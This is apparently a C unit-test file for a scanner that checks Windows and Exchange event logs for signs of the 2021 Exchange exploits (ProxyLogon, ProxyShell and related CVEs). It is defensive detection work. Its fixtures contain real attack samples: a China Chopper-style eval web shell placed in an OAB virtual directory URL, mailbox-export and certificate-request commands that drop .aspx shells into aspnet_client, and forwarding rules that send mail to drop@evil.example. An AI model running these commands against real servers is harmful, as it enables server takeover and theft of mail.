/* Unit tests: each event-log check fires on its indicator and stays quiet on look-alikes. */
#include "events_helper.h"

#define APP "C:\\Windows\\System32\\winevt\\Logs\\Application.evtx"
#define MGMT "C:\\Windows\\System32\\winevt\\Logs\\MSExchange Management.evtx"
#define DEF "C:\\Windows\\System32\\winevt\\Logs\\" \
    "Microsoft-Windows-Windows Defender%4Operational.evtx"
#define CMD "MSExchange CmdletLogs|MSExchange Management|1|4|" \
    "2021-08-13T10:00:00Z||"

/* Scans one file and reports how many findings carry check. */
static size_t
hits(const char *winpath, const char *spec, const char *check)
{
	struct run r;
	size_t n;

	run_scan(&r, winpath, spec, NULL, -1);
	assert_int_equal(r.rc, EXH_OK);
	find_check(&r, check, &n);
	run_free(&r);
	return n;
}

static void
um_invalidcast_error_is_flagged_with_exact_record_and_time(void **state)
{
	struct run r;
	const struct exh_finding *f;
	int64_t t;

	(void)state;
	run_scan(&r, APP, "MSExchange Unified Messaging|Application|1000|2|"
	    "2021-03-03T06:49:42.1620000Z|4711|UMWorkerProcess|"
	    "System.InvalidCastException: Unable to cast object", NULL, -1);
	assert_int_equal(r.rc, EXH_OK);
	f = find_check(&r, "CVE-2021-26857/um-invalidcast", NULL);
	assert_non_null(f);
	assert_int_equal(f->kind, EXH_FIND_EVENT);
	assert_int_equal(f->record, 4711);
	assert_int_equal(exh_iso_to_filetime("2021-03-03T06:49:42.162Z", &t),
	    EXH_OK);
	assert_int_equal(f->time, t);
	assert_string_equal(f->file.path, APP);
	assert_int_equal(f->score, 80);
	assert_int_equal(f->level, EXH_LEVEL_ALERT);
	assert_int_equal(f->nreasons, 1);
	assert_string_equal(f->reasons[0].kind, "event");
	assert_string_equal(f->reasons[0].name,
	    "CVE-2021-26857/um-invalidcast");
	assert_string_equal(f->excerpt, "MSExchange Unified Messaging 1000: "
	    "UMWorkerProcess | System.InvalidCastException: Unable to cast "
	    "object");
	assert_string_equal(field(f, "Provider"),
	    "MSExchange Unified Messaging");
	assert_string_equal(field(f, "EventID"), "1000");
	assert_string_equal(field(f, "Level"), "2");
	assert_string_equal(field(f, "Channel"), "Application");
	assert_string_equal(field(f, "Data[0]"), "UMWorkerProcess");
	assert_int_equal(r.st.records, 1);
	assert_int_equal(r.st.first, t);
	assert_int_equal(r.st.last, t);
	run_free(&r);
}

static void
um_error_without_invalidcast_is_not_flagged(void **state)
{
	(void)state;
	assert_int_equal(hits(APP, "MSExchange Unified Messaging|Application|"
	    "1000|2|2021-03-03T06:49:42Z|1|System.TimeoutException",
	    "CVE-2021-26857/um-invalidcast"), 0);
}

static void
um_invalidcast_at_information_level_is_not_flagged(void **state)
{
	(void)state;
	assert_int_equal(hits(APP, "MSExchange Unified Messaging|Application|"
	    "1000|4|2021-03-03T06:49:42Z|1|System.InvalidCastException",
	    "CVE-2021-26857/um-invalidcast"), 0);
}

static void
watson_report_for_um_worker_with_gadget_type_is_flagged(void **state)
{
	(void)state;
	assert_int_equal(hits(APP, "MSExchange Common|Application|4999|2|"
	    "2021-03-02T01:00:00Z|7|4242|E12IIS|c-RTL-AMD64|15.01.1979.003|"
	    "UMWorkerProcess|M.E.UM.UMCore|"
	    "Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties"
	    "|unknown", "CVE-2021-26857/watson-umworker"), 1);
}

static void
watson_report_for_ews_app_pool_is_not_flagged(void **state)
{
	(void)state;
	assert_int_equal(hits(APP, "MSExchange Common|Application|4999|2|"
	    "2021-03-02T01:00:00Z|7|4242|E12IIS|c-RTL-AMD64|15.01.1979.003|"
	    "w3wp#MSExchangeServicesAppPool|M.Exchange.Services|"
	    "System.NullReferenceException", "CVE-2021-26857/watson-umworker"),
	    0);
}

static void
um_worker_unhandled_exception_is_flagged_unless_out_of_memory(void **state)
{
	(void)state;
	assert_int_equal(hits(APP, "MSExchange UM Call Data|Application|1|2|"
	    "2021-03-02T01:00:00Z||An unhandled exception occurred in a UM "
	    "worker process: System.ArgumentException",
	    "CVE-2021-26857/um-worker-unhandled"), 1);
	assert_int_equal(hits(APP, "MSExchange UM Call Data|Application|1|2|"
	    "2021-03-02T01:00:00Z||An unhandled exception occurred in a UM "
	    "worker process: System.OutOfMemoryException",
	    "CVE-2021-26857/um-worker-unhandled"), 0);
}

static void
um_role_state_is_worded_into_26857_descriptions(void **state)
{
	struct run r;
	const struct exh_finding *f;

	(void)state;
	run_scan(&r, APP, "MSExchange Unified Messaging|Application|1000|2|"
	    "2021-03-03T06:49:42Z|1|System.InvalidCastException", NULL, 0);
	f = find_check(&r, "CVE-2021-26857/um-invalidcast", NULL);
	assert_non_null(f);
	assert_non_null(strstr(f->reasons[0].description,
	    "does not appear to be installed"));
	run_free(&r);
	run_scan(&r, APP, "MSExchange Unified Messaging|Application|1000|2|"
	    "2021-03-03T06:49:42Z|1|System.InvalidCastException", NULL, 1);
	f = find_check(&r, "CVE-2021-26857/um-invalidcast", NULL);
	assert_non_null(strstr(f->reasons[0].description, "is installed"));
	run_free(&r);
}

static void
msi_updates_give_kb_time_and_failed_flag(void **state)
{
	struct run r;
	const struct exh_update_event *u;
	int64_t t;

	(void)state;
	run_scan(&r, APP,
	    "MsiInstaller|Application|1023|2|2021-03-05T02:00:00Z|10|"
	    "Microsoft Exchange Server|Update Rollup 32 for Exchange Server "
	    "2010 Service Pack 3 (KB5000978) 14.3.513.0|1603\n"
	    "MsiInstaller|Application|1022|4|2021-03-06T03:30:00Z|11|"
	    "Microsoft Exchange Server|Security Update for Exchange Server "
	    "2019 Cumulative Update 8 (KB5000871)|(NULL)\n"
	    "MsiInstaller|Application|1022|4|2021-03-07T00:00:00Z|12|"
	    "Microsoft Visual C++ 2012|Some update without a number\n"
	    "MsiInstaller|Application|1033|4|2021-03-07T00:00:00Z|13|"
	    "Windows Installer installed the product (KB1234567)", NULL, -1);
	assert_int_equal(r.rc, EXH_OK);
	assert_int_equal(exh_events_update_count(r.ev), 3);
	u = exh_events_update(r.ev, 0);
	assert_string_equal(u->kb, "KB5000978");
	assert_true(u->failed);
	assert_int_equal(u->event_id, 1023);
	assert_int_equal(exh_iso_to_filetime("2021-03-05T02:00:00Z", &t),
	    EXH_OK);
	assert_int_equal(u->time, t);
	assert_non_null(strstr(u->text, "Update Rollup 32"));
	u = exh_events_update(r.ev, 1);
	assert_string_equal(u->kb, "KB5000871");
	assert_false(u->failed);
	assert_int_equal(u->event_id, 1022);
	u = exh_events_update(r.ev, 2);
	assert_string_equal(u->kb, "");
	assert_null(exh_events_update(r.ev, 3));
	/* Kept for the timeline, below the notice level. */
	assert_int_equal(find_check(&r, "patch/msi-update-failed",
	    NULL)->level, EXH_LEVEL_INFO);
	run_free(&r);
}

static void
set_oab_vdir_with_script_in_url_is_an_alert(void **state)
{
	struct run r;
	const struct exh_finding *f;

	(void)state;
	run_scan(&r, MGMT, CMD "Set-OabVirtualDirectory|{ExternalUrl=http://f/"
	    "<script language=\"JScript\" runat=\"server\">function Page_Load()"
	    "{eval(Request[\"klk123456\"],\"unsafe\");}</script>, Identity="
	    "EXCH01\\OAB (Default Web Site)}|corp/Users/Administrator", NULL, -1);
	f = find_check(&r, "CVE-2021-27065/set-oabvdir-script", NULL);
	assert_non_null(f);
	assert_int_equal(f->level, EXH_LEVEL_ALERT);
	assert_non_null(strstr(f->reasons[0].detail, "Set-OabVirtualDirectory"));
	/* The broad variant leaves OAB to the specific check. */
	assert_null(find_check(&r, "CVE-2021-27065/set-vdir-script", NULL));
	run_free(&r);
}

static void
set_vdir_with_plain_url_is_not_flagged(void **state)
{
	(void)state;
	assert_int_equal(hits(MGMT, CMD "Set-OabVirtualDirectory|{ExternalUrl="
	    "https://mail.example.com/OAB, Identity=EXCH01\\OAB}",
	    "CVE-2021-27065/set-oabvdir-script"), 0);
	assert_int_equal(hits(MGMT, CMD "Set-OwaVirtualDirectory|{InternalUrl="
	    "https://exch01/owa}", "CVE-2021-27065/set-vdir-script"), 0);
	assert_int_equal(hits(MGMT, CMD "Set-EcpVirtualDirectory|{ExternalUrl="
	    "http://x/<b>hi</b>}", "CVE-2021-27065/set-vdir-script"), 1);
}

static void
oab_vdir_reset_is_a_notice(void **state)
{
	struct run r;
	const struct exh_finding *f;

	(void)state;
	run_scan(&r, MGMT, CMD "Remove-OABVirtualDirectory|{Identity=OAB, "
	    "Confirm=False}", NULL, -1);
	f = find_check(&r, "CVE-2021-27065/oab-vdir-reset", NULL);
	assert_non_null(f);
	assert_int_equal(f->level, EXH_LEVEL_NOTICE);
	run_free(&r);
}

static void
mailbox_export_to_aspx_or_loopback_unc_is_flagged(void **state)
{
	(void)state;
	assert_int_equal(hits(MGMT, CMD "New-MailboxExportRequest|{Mailbox="
	    "admin@corp.example, FilePath=\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\"
	    "aspnet_client\\shell.aspx}", "ProxyShell/mailbox-export-aspx"), 1);
	assert_int_equal(hits(MGMT, CMD "New-MailboxExportRequest|{Mailbox="
	    "admin, FilePath=\\\\localhost\\share\\a.pst}",
	    "ProxyShell/mailbox-export-unc"), 1);
	assert_int_equal(hits(MGMT, CMD "New-MailboxExportRequest|{Mailbox="
	    "admin, FilePath=\\\\fs01\\c$\\x.pst}",
	    "ProxyShell/mailbox-export-unc"), 1);
}

static void
mailbox_export_to_normal_pst_share_is_not_flagged(void **state)
{
	const char *spec = CMD "New-MailboxExportRequest|{Mailbox=jdoe, "
	    "FilePath=\\\\fileserver01\\PSTExports\\jdoe.pst}";

	(void)state;
	assert_int_equal(hits(MGMT, spec, "ProxyShell/mailbox-export-aspx"), 0);
	assert_int_equal(hits(MGMT, spec, "ProxyShell/mailbox-export-unc"), 0);
}

static void
import_export_role_and_export_cleanup_are_flagged(void **state)
{
	(void)state;
	assert_int_equal(hits(MGMT, CMD "New-ManagementRoleAssignment|{Role="
	    "Mailbox Import Export, User=administrator}",
	    "ProxyShell/import-export-role"), 1);
	assert_int_equal(hits(MGMT, CMD "New-ManagementRoleAssignment|{Role="
	    "Help Desk, User=jdoe}", "ProxyShell/import-export-role"), 0);
	assert_int_equal(hits(MGMT, CMD "Remove-MailboxExportRequest|{"
	    "Identity=x\\MailboxExport, Confirm=False}",
	    "ProxyShell/export-request-removed"), 1);
}

static void
certificate_request_to_aspx_is_flagged_and_normal_one_is_not(void **state)
{
	(void)state;
	assert_int_equal(hits(MGMT, CMD "New-ExchangeCertificate|{"
	    "GenerateRequest=True, BinaryEncoded=True, RequestFile=\\\\localhost"
	    "\\C$\\inetpub\\wwwroot\\aspnet_client\\x.aspx}",
	    "ProxyShell/cert-request-aspx"), 1);
	assert_int_equal(hits(MGMT, CMD "New-ExchangeCertificate|{"
	    "GenerateRequest=True, RequestFile=C:\\certs\\mail.req}",
	    "ProxyShell/cert-request-aspx"), 0);
}

static void
forwarding_by_mailbox_or_rule_is_flagged(void **state)
{
	(void)state;
	assert_int_equal(hits(MGMT, CMD "Set-Mailbox|{Identity=ceo, "
	    "ForwardingSmtpAddress=smtp:drop@evil.example}",
	    "exfil/mailbox-forwarding"), 1);
	assert_int_equal(hits(MGMT, CMD "Set-Mailbox|{Identity=ceo, "
	    "ProhibitSendQuota=5GB}", "exfil/mailbox-forwarding"), 0);
	assert_int_equal(hits(MGMT, CMD "New-InboxRule|{Mailbox=ceo, "
	    "ForwardTo=drop@evil.example}", "exfil/rule-forwarding"), 1);
	assert_int_equal(hits(MGMT, CMD "New-InboxRule|{Mailbox=ceo, "
	    "MoveToFolder=Archive}", "exfil/rule-forwarding"), 0);
}

static void
get_app_failure_is_flagged_but_other_cmdlets_are_not(void **state)
{
	(void)state;
	assert_int_equal(hits(MGMT, "MSExchange CmdletLogs|MSExchange "
	    "Management|6|2|2021-11-10T10:00:00Z||Get-App|{Mailbox=x}|"
	    "corp/Users/u", "CVE-2021-42321/get-app-failure"), 1);
	assert_int_equal(hits(MGMT, "MSExchange CmdletLogs|MSExchange "
	    "Management|6|2|2021-11-10T10:00:00Z||Get-AppConfig|{}",
	    "CVE-2021-42321/get-app-failure"), 0);
	assert_int_equal(hits(MGMT, "MSExchange CmdletLogs|MSExchange "
	    "Management|8|2|2021-11-10T10:00:00Z||Get-App|{}|x|"
	    "System.InvalidCastException: bad",
	    "CVE-2021-42321/get-app-exception"), 1);
}

static void
defender_exchange_family_is_flagged_and_other_threats_are_not(void **state)
{
	const char *p = "Microsoft-Windows-Windows Defender|Microsoft-Windows-"
	    "Windows Defender/Operational|";

	(void)state;
	{
		char spec[512];

		snprintf(spec, sizeof(spec), "%s1116|3|2021-03-04T00:00:00Z||"
		    "%%%%827|Backdoor:ASP/SecChecker.A|5|Severe|C:\\inetpub\\"
		    "wwwroot\\aspnet_client\\s.aspx", p);
		assert_int_equal(hits(DEF, spec, "defender/exchange-family"), 1);
		snprintf(spec, sizeof(spec), "%s1117|4|2021-03-04T00:00:00Z||"
		    "Trojan:JS/Chopper!dha", p);
		assert_int_equal(hits(DEF, spec,
		    "defender/exchange-family-action"), 1);
		snprintf(spec, sizeof(spec), "%s1116|3|2021-03-04T00:00:00Z||"
		    "PUA:Win32/Presenoker|C:\\Users\\x\\setup.exe", p);
		assert_int_equal(hits(DEF, spec, "defender/exchange-family"), 0);
	}
}

static void
checks_apply_only_to_their_kind_of_log(void **state)
{
	(void)state;
	/* Management-log text in the Application channel is not a cmdlet. */
	assert_int_equal(hits(APP, "MSExchange CmdletLogs|Application|1|4|"
	    "2021-08-13T10:00:00Z||New-MailboxExportRequest|{FilePath=x.aspx}",
	    "ProxyShell/mailbox-export-aspx"), 0);
	/* A channel-less record takes its kind from the file name. */
	assert_int_equal(hits(MGMT, "MSExchange CmdletLogs||1|4|"
	    "2021-08-13T10:00:00Z||New-MailboxExportRequest|{FilePath=x.aspx}",
	    "ProxyShell/mailbox-export-aspx"), 1);
}

static void
hostile_data_stays_raw_and_is_cut_at_4k(void **state)
{
	struct run r;
	const struct exh_finding *f;
	char *spec, *p;
	size_t i;

	(void)state;
	spec = malloc(20000);
	assert_non_null(spec);
	p = spec + snprintf(spec, 20000, "MSExchange Unified Messaging|"
	    "Application|1000|2|2021-03-03T06:49:42Z|9|\\x1b[31mred\\x07"
	    "\\x01<x>&amp;|System.InvalidCastException ");
	for (i = 0; i < 9000; i++)
		*p++ = 'A';
	*p = '\0';
	run_scan(&r, APP, spec, NULL, -1);
	free(spec);
	f = find_check(&r, "CVE-2021-26857/um-invalidcast", NULL);
	assert_non_null(f);
	assert_string_equal(field(f, "Data[0]"),
	    "\x1b[31mred\x07\x01<x>&amp;");
	assert_int_equal(strlen(f->excerpt), EXH_EVENTS_EXCERPT_MAX);
	assert_int_equal(strlen(field(f, "Data[1]")), EXH_EVENTS_EXCERPT_MAX);
	assert_true(strncmp(f->excerpt, "MSExchange Unified Messaging 1000: "
	    "\x1b[31mred", 40) == 0);
	run_free(&r);
}

static void
rules_with_a_bad_score_are_rejected_with_the_line_number(void **state)
{
	struct exh_events *ev = NULL;
	struct exh_err err;

	(void)state;
	assert_int_equal(exh_events_create(EXH_RULES_DIR "/../tests/fixtures/events/bad",
	    &ev, &err), EXH_EUSAGE);
	assert_null(ev);
	assert_non_null(strstr(err.msg, "checks.tsv:3: score"));
}

static void
rules_without_checks_refuse_to_load(void **state)
{
	struct exh_events *ev = NULL;
	struct exh_err err;

	(void)state;
	assert_int_equal(exh_events_create(EXH_RULES_DIR "/../tests/fixtures/events/empty",
	    &ev, &err), EXH_EUSAGE);
	assert_null(ev);
	assert_non_null(strstr(err.msg, "zero rules"));
	assert_int_equal(exh_events_create(EXH_RULES_DIR "/../tests/fixtures/none", &ev,
	    &err), EXH_EIO);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(
		    um_invalidcast_error_is_flagged_with_exact_record_and_time),
		cmocka_unit_test(um_error_without_invalidcast_is_not_flagged),
		cmocka_unit_test(
		    um_invalidcast_at_information_level_is_not_flagged),
		cmocka_unit_test(
		    watson_report_for_um_worker_with_gadget_type_is_flagged),
		cmocka_unit_test(watson_report_for_ews_app_pool_is_not_flagged),
		cmocka_unit_test(
		    um_worker_unhandled_exception_is_flagged_unless_out_of_memory),
		cmocka_unit_test(um_role_state_is_worded_into_26857_descriptions),
		cmocka_unit_test(msi_updates_give_kb_time_and_failed_flag),
		cmocka_unit_test(set_oab_vdir_with_script_in_url_is_an_alert),
		cmocka_unit_test(set_vdir_with_plain_url_is_not_flagged),
		cmocka_unit_test(oab_vdir_reset_is_a_notice),
		cmocka_unit_test(
		    mailbox_export_to_aspx_or_loopback_unc_is_flagged),
		cmocka_unit_test(
		    mailbox_export_to_normal_pst_share_is_not_flagged),
		cmocka_unit_test(
		    import_export_role_and_export_cleanup_are_flagged),
		cmocka_unit_test(
		    certificate_request_to_aspx_is_flagged_and_normal_one_is_not),
		cmocka_unit_test(forwarding_by_mailbox_or_rule_is_flagged),
		cmocka_unit_test(
		    get_app_failure_is_flagged_but_other_cmdlets_are_not),
		cmocka_unit_test(
		    defender_exchange_family_is_flagged_and_other_threats_are_not),
		cmocka_unit_test(checks_apply_only_to_their_kind_of_log),
		cmocka_unit_test(hostile_data_stays_raw_and_is_cut_at_4k),
		cmocka_unit_test(
		    rules_with_a_bad_score_are_rejected_with_the_line_number),
		cmocka_unit_test(rules_without_checks_refuse_to_load),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
